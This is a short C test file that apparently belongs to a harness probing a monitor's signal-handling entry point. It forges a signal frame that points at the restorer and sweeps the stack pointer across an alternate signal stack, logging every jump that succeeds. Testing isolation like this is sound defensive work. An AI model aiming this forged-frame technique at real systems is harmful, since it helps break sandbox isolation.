// SPDX-License-Identifier: Apache-2.0
// Jump to the signal entry with the stack pointer at every place where the host
// could have put a frame, and at frames of one's own (rule 5).
#include "attack.h"

int attack(void)
{
	uint64_t entry = value("monitor.sig_entry"), stack = value("monitor.altstack");
	uint64_t *forged = (uint64_t *)&landing_stack[512];

	jump_prepare(entry);
	forged[0] = value("monitor.sig_restorer");
	if (attempt() == SUCCEEDED)
		GAINED("a forged frame");
	/* Frames are 64-byte aligned with 8 bytes below; the area's size depends
	 * on the processor. The step keeps it short, the offset varies it. */
	for (uint64_t sp = stack + 0x10000 - 8; sp > stack + 0xc000; sp -= 64 * 7) {
		jump_prepare(entry);
		jump_in.sp = sp & ~63ul;
		if (attempt() == SUCCEEDED)
			GAINED("rsp %#lx", jump_in.sp);
		jump_in.sp -= 8;
		if (attempt() == SUCCEEDED)
			GAINED("rsp %#lx", jump_in.sp);
	}
	return STOPPED;
}
